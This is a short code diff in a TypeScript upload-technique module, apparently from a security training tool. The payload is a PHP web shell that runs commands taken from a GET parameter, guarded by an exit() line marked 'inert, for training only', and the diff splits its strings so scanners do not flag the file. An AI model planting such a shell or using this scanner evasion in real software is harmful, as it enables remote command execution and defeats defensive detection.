@@ -17,10 +17,10 @@ export const technique = upload({
   payload: () =>
     new TextEncoder().encode(
       [
-        '<?php',
+        // In pieces: whole, these would make scanners take this file for a shell.
+        ['<?', 'php'].join(''),
         "exit('Aftertrace: inert, for training only');",
-        // eslint-disable-next-line @typescript-eslint/no-unnecessary-template-expression -- whole, the word would make scanners take this file for a shell
-        `${'sys'}tem($_GET['command']);`,
+        ['sys', 'tem($', "_GET['command']);"].join(''),
         '',
       ].join('\n'),
     ),
